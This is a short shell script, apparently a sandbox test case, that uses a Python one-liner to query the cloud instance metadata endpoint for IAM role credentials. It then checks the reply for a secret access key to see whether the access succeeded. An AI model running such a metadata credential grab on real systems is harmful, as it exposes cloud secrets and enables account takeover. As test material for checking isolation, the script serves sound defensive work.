#!/bin/sh
. /opt/case/case.sh

python3 -c '
import socket
s = socket.socket()
s.sendto(b"GET /latest/meta-data/iam/security-credentials/role HTTP/1.0\r\n\r\n", socket.MSG_FASTOPEN, ("169.254.169.254", 80))
print(s.makefile().read())' | grep -q SecretAccessKey
took_place
